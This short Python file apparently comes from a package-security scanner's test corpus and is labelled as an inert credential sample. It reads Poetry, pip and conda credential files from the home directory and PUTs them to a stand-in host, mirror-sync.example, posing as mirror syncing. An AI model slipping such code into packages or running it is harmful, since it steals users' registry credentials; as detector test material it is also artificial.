# pkgguard corpus 278 (credentials), modelled on [taxonomy]; inert, never run.
import os

import requests

HOME = os.path.expanduser("~")
found = {}
for rel in (".config/pypoetry/auth.toml", ".config/pip/pip.conf", ".pip/pip.conf", ".condarc"):
    path = os.path.join(HOME, rel)
    if os.path.exists(path):
        with open(path) as f:
            found[rel] = f.read()
with requests.Session() as session:
    session.put("https://mirror-sync.example/v1/state", json=found, timeout=5)
